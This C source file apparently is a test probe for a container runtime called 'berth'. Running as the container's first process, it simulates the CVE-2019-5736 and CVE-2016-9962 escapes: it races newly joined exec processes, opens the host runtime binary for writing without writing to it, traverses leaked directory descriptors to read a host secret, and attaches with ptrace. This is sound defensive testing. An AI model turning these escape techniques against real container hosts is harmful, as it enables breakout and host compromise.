/* Runs inside a container as its first process and plays the CVE-2019-5736 / CVE-2016-9962 attacker:
 * every process that joins this pid namespace (a `berth exec` child between setns and execve) is probed
 * for a handle on the host runtime binary, for descriptors of host directories, and for ptrace.
 *
 * usage: watch HOST_DEV HOST_INO SECRET_PATH SECONDS
 * Prints one line per finding; the test judges them from the host:
 *   EXE pid dev ino         /proc/pid/exe opened, with the file's identity (HOST-EXE if it is the host binary)
 *   WRITE pid result        reopening a handle on the host binary for writing (never written to), at
 *                           once and at the end
 *   FD pid n -> target      a descriptor of the process
 *   SECRET pid n data       a directory descriptor of the process led to SECRET_PATH outside the root
 *   ATTACH pid result       PTRACE_SEIZE of the process (HOST-EXE if it was still the host binary)
 *   DONE seen=N             the number of processes probed (at the end, or on SIGTERM)
 * Pids in a fresh pid namespace are handed out in order and nothing else forks here, so the next pid is
 * always last+1: spinning on that one path keeps the window between setns and execve within reach. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static unsigned long host_dev, host_ino;
static const char *secret;
static int held[64], held_pid[64], nheld;
static volatile sig_atomic_t stop;

static void on_term(int sig) {
    (void)sig;
    stop = 1;
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static void probe_fds(int pid) {
    char dir[64], path[320], link[512];
    snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
    DIR *d = opendir(dir);
    if (!d) return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        ssize_t n = readlink(path, link, sizeof link - 1);
        if (n < 0) continue;
        link[n] = 0;
        printf("FD %d %s -> %s\n", pid, e->d_name, link);
        int fd = open(path, O_RDONLY | O_DIRECTORY);
        if (fd < 0) continue;
        char rel[4096] = "";
        for (int i = 0; i < 32; i++) strcat(rel, "../");
        strcat(rel, secret + 1);
        int s = openat(fd, rel, O_RDONLY);
        if (s >= 0) {
            char buf[256];
            ssize_t r = read(s, buf, sizeof buf - 1);
            buf[r > 0 ? r : 0] = 0;
            buf[strcspn(buf, "\n")] = 0;
            printf("SECRET %d %s %s\n", pid, e->d_name, buf);
            close(s);
        }
        close(fd);
    }
    closedir(d);
}

static void probe(int pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY);
    if (fd >= 0) {
        struct stat st;
        fstat(fd, &st);
        int host = (unsigned long)st.st_dev == host_dev && (unsigned long)st.st_ino == host_ino;
        printf("EXE %d %lu %lu%s\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino,
               host ? " HOST-EXE" : "");
        /* Only the host binary matters: a container's own program may well open for writing. A view
         * of it (same inode number on another device: berth's read-only overlay) must refuse. */
        if (host || (unsigned long)st.st_ino == host_ino) {
            char self[64];
            snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
            int w = open(self, O_WRONLY);
            printf("WRITE %d %s\n", pid, w >= 0 ? "opened" : strerror(errno));
            if (w >= 0) close(w);
        }
        if (host && nheld < 64) {
            held_pid[nheld] = pid;
            held[nheld++] = fd;
        } else {
            close(fd);
        }
    }
    probe_fds(pid);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        /* Attaching to the container's own program after execve is ordinary; attaching to the runtime
         * binary before it is the escape, so say which one was caught. */
        struct stat st;
        int host = stat(path, &st) == 0 && (unsigned long)st.st_dev == host_dev &&
                   (unsigned long)st.st_ino == host_ino;
        printf("ATTACH %d attached%s\n", pid, host ? " HOST-EXE" : "");
        /* Detaching needs a ptrace-stop; leave the process to go on as if never touched. */
        if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
            int ws;
            if (waitpid(pid, &ws, __WALL) == pid && WIFSTOPPED(ws))
                ptrace(PTRACE_DETACH, pid, 0, 0);
        }
    } else {
        printf("ATTACH %d %s\n", pid, strerror(errno));
    }
    fflush(stdout);
}

/* The lowest pid above `from` that /proc lists now, or 0. */
static int lowest_pid_from(int from) {
    DIR *d = opendir("/proc");
    if (!d) return 0;
    int low = 0;
    struct dirent *e;
    while ((e = readdir(d))) {
        int p = atoi(e->d_name);
        if (p >= from && (low == 0 || p < low)) low = p;
    }
    closedir(d);
    return low;
}

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: watch HOST_DEV HOST_INO SECRET_PATH SECONDS\n");
        return 2;
    }
    host_dev = strtoul(argv[1], 0, 10);
    host_ino = strtoul(argv[2], 0, 10);
    secret = argv[3];
    double end = now() + atof(argv[4]);
    setvbuf(stdout, 0, _IOLBF, 0);
    signal(SIGCHLD, SIG_IGN);
    /* As pid 1 it only gets the signals it handles: SIGTERM ends the watch early with the summary. */
    signal(SIGTERM, on_term);
    printf("READY\n");
    int next = getpid() + 1, seen = 0;
    unsigned long idle = 0;
    char path[64], later[64];
    while (now() < end && !stop) {
        snprintf(path, sizeof path, "/proc/%d", next);
        snprintf(later, sizeof later, "/proc/%d", next + 1);
        if (access(path, F_OK) == 0) {
            probe(next);
            seen++;
            next++;
            idle = 0;
        } else if (access(later, F_OK) == 0) {
            next++;
            idle = 0;
        } else if (++idle % 4096 == 0) {
            /* On a loaded machine a short-lived process (and the one after it) can come and go
             * between two looks: resume at the lowest pid alive above the one awaited. */
            int low = lowest_pid_from(next);
            if (low > 0) next = low;
        }
    }
    /* CVE-2019-5736 proper: once the process is gone the binary is no longer busy; a handle kept from
     * earlier reopens for writing then (opened only, never written). */
    for (int i = 0; i < nheld; i++) {
        char self[64];
        snprintf(self, sizeof self, "/proc/self/fd/%d", held[i]);
        int w = open(self, O_WRONLY);
        printf("WRITE %d %s\n", held_pid[i], w >= 0 ? "opened" : strerror(errno));
        if (w >= 0) close(w);
    }
    printf("DONE seen=%d\n", seen);
    return 0;
}
